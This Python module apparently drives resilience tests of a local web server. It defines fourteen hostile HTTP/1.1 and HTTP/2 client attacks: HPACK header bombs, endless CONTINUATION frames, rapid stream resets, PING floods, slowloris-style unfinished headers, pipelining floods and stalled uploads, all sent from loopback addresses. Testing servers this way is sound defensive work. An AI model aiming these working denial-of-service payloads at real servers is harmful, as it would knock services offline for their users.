"""Hostile clients: each sends little that takes much of a server, reads nothing and stays.

ATTACKS has what a connection of each sends. hold() makes the connections of an attack.
"""

import contextlib
import dataclasses
import socket
import ssl
import struct
import time

ADDRESS = "127.0.0.2"  # where hostile clients come from; others come from 127.0.0.1
HOST = b"localhost"
LARGE, TEXT, SMALL, FOLDER = "/large.bin", "/large.txt", "/small.txt", "/many/"
STREAMS = 100

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_INITIAL_WINDOW_SIZE = 4
_WINDOW_MAX = 2**31 - 1
_FRAME_BYTES_MAX = 16384
_SEND_S_MAX = 20  # for all connections of an attack
_PAUSE_S_MAX = 0.5  # without a byte that a server takes, a connection sends no more


def frame(kind, flags=0, stream=0, payload=b""):
    """Returns a frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, bits, first=0):
    """Returns an integer with a prefix of so many bits (RFC 7541, 5.1)."""
    largest = (1 << bits) - 1
    if value < largest:
        return bytes([first | value])
    octets, value = [first | largest], value - largest
    while value >= 128:
        octets.append(value % 128 | 128)
        value //= 128
    return bytes([*octets, value])


def _string(text):
    return integer(len(text), 7) + text


def field(name, value, indexed=False):
    """Returns a field as a literal, with or without a place in the dynamic table (RFC 7541, 6.2)."""
    return (b"\x40" if indexed else b"\x00") + _string(name) + _string(value)


def head(path, tls, method=None, fields=b""):
    """Returns the field block of a request: GET, or another method by its name."""
    start = b"\x82" if method is None else b"\x02" + _string(method)
    return (start + (b"\x87" if tls else b"\x86") + b"\x04" + _string(path.encode())
            + b"\x01" + _string(HOST) + fields)


def opening(window):
    """Returns the preface, with windows for all that the server sends of that size."""
    first = _PREFACE + frame(_SETTINGS, payload=struct.pack(">HI", _INITIAL_WINDOW_SIZE, window))
    if window > 65535:
        first += frame(_WINDOW_UPDATE, payload=struct.pack(">I", window - 65535))
    return first


def _gets(window, path, tls, fields=b""):
    """A request for `path` on each of STREAMS, each with its own query."""
    return opening(window) + b"".join(
        frame(_HEADERS, _END_STREAM | _END_HEADERS, 1 + 2 * number,
              head(f"{path}?{number}", tls, fields=fields)) for number in range(STREAMS))


_BOMB = field(b"x-a", b"z" * 3900, indexed=True)
_BOMBS = b"\xbe" * 7  # seven times the newest of the dynamic table


def _bomb(tls, _):
    first = head(LARGE, tls)
    return opening(0) + frame(_HEADERS, _END_STREAM | _END_HEADERS, 1, first + _BOMB) + b"".join(
        frame(_HEADERS, _END_STREAM | _END_HEADERS, 1 + 2 * number, first + _BOMBS)
        for number in range(1, STREAMS))


def _trailers(tls, _):
    first = head("/none", tls, b"POST")
    return opening(0) + frame(_HEADERS, _END_HEADERS, 1, first + _BOMB) + b"".join(
        frame(_HEADERS, _END_HEADERS, 1 + 2 * number, first)
        + frame(_HEADERS, _END_STREAM | _END_HEADERS, 1 + 2 * number, _BOMBS)
        for number in range(1, STREAMS))


def _heads(tls, _):
    return _gets(0, LARGE, tls, b"".join(field(b"x-%d" % number, b"y" * 200) for number in range(15)))


def _continuation(tls, _):
    piece = field(b"x-a", b"z" * (_FRAME_BYTES_MAX - 20))
    return (opening(65535) + frame(_HEADERS, _END_STREAM, 1, head(SMALL, tls))
            + frame(_CONTINUATION, 0, 1, piece) * 60)


def _posts(tls, path):
    return opening(0) + b"".join(
        frame(_HEADERS, _END_HEADERS, 1 + 2 * number, head(f"{path}{number}", tls, b"PUT"))
        + frame(_DATA, 0, 1 + 2 * number, b"x") for number in range(STREAMS))


def _resets(tls, _):
    return opening(65535) + b"".join(
        frame(_HEADERS, _END_STREAM | _END_HEADERS, 1 + 2 * number, head(LARGE, tls))
        + frame(_RST_STREAM, 0, 1 + 2 * number, b"\0\0\0\x08") for number in range(20_000))


def _pings(_, __):
    return opening(65535) + frame(_PING, payload=b"12345678") * 200_000


def _request(method, path, fields=b""):
    return method + b" " + path.encode() + b" HTTP/1.1\r\nHost: " + HOST + b"\r\n" + fields


def _endless_head(_, __):
    return _request(b"GET", SMALL) + b"x-a: " + b"z" * 3900 + b"\r\n" + b"".join(
        b"x-%d: " % number + b"z" * 3900 + b"\r\n" for number in range(6))


def _pipeline(_, __):
    return (_request(b"GET", LARGE) + b"\r\n") * 2000


def _begun_upload(_, path):
    return _request(b"PUT", f"{path}{time.monotonic_ns()}",
                    b"Content-Length: 100000000\r\n\r\n") + b"x" * 60_000


@dataclasses.dataclass(frozen=True)
class Attack:
    """What each of some connections sends."""

    name: str
    what: str  # for a table
    protocol: str  # h1 or h2
    connections: int
    sends: object  # (TLS or not, path below which the server takes uploads) -> bytes


ATTACKS = (
    Attack("bomb", "a field of 3.9 kB, named seven times by each of 100 streams", "h2", 60, _bomb),
    Attack("trailers", "the same in trailers, to what is not there", "h2", 60, _trailers),
    Attack("heads", "heads of 3 kB on 100 streams, windows closed", "h2", 60, _heads),
    Attack("unread", "60 MB on each of 100 streams, windows open, nothing read", "h2", 60,
           lambda tls, _: _gets(_WINDOW_MAX, LARGE, tls)),
    Attack("texts", "a text to be compressed on 100 streams, windows closed", "h2", 20,
           lambda tls, _: _gets(0, TEXT, tls, field(b"accept-encoding", b"br, gzip"))),
    Attack("listings", "a folder of 3,000 names on 100 streams, windows closed", "h2", 20,
           lambda tls, _: _gets(0, FOLDER, tls)),
    Attack("continuation", "a head of 1 MB that does not end", "h2", 200, _continuation),
    Attack("posts", "uploads of which one byte comes, on 100 streams", "h2", 40, _posts),
    Attack("resets", "20,000 requests, each reset at once", "h2", 10, _resets),
    Attack("pings", "200,000 PING frames whose answers nobody reads", "h2", 20, _pings),
    Attack("endless", "heads of 27 kB that do not end", "h1", 500, _endless_head),
    Attack("pipeline", "2,000 requests for 60 MB in a row, nothing read", "h1", 100, _pipeline),
    Attack("begun", "uploads of which 60 kB come", "h1", 400, _begun_upload),
    Attack("idle", "connections that ask for nothing", "h1", 2000, lambda _, __: b""),
)


def connect(port, tls, protocol, source, timeout_s):
    """Returns a connection from an address of loopback."""
    plain = socket.create_connection(("127.0.0.1", port), timeout_s, source_address=(source, 0))
    if not tls:
        return plain
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2" if protocol == "h2" else "http/1.1"])
    return context.wrap_socket(plain, server_hostname="localhost")


def _send(connection, octets):
    """Returns how many bytes the server took."""
    sent, view = 0, memoryview(octets)
    connection.settimeout(_PAUSE_S_MAX)
    with contextlib.suppress(OSError):
        while sent < len(view):
            sent += connection.send(view[sent:sent + 65536])
    return sent


def hold(attack, port, tls, uploads, connections):
    """Makes an attack. Returns (connections to be closed, bytes sent). Ends early if the server
    takes no more connections."""
    held, sent = [], 0
    deadline = time.monotonic() + _SEND_S_MAX
    for _ in range(connections):
        try:
            connection = connect(port, tls, attack.protocol, ADDRESS, _PAUSE_S_MAX)
        except OSError:
            break
        held.append(connection)
        sent += _send(connection, attack.sends(tls, uploads))
        if time.monotonic() > deadline:
            break
    return held, sent
